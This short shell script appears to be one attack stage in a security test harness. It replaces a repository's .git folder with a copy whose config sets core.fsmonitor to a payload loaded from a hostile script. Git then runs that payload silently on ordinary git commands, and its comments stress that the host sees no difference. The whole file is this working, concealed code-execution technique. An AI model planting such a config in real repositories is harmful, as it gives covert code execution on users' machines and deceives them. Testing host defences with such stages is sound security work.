#!/bin/sh
# Moves .git away and puts a copy with other settings in its place.
# Matters: the host sees no difference.
# Held by: as dotgit_moved.
# judge: host
# harm: owned guarded
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
cp -r .git copy
printf '[core]\n\tfsmonitor = "%s; false"\n' "$payload" >>copy/config
mv .git away && mv copy .git
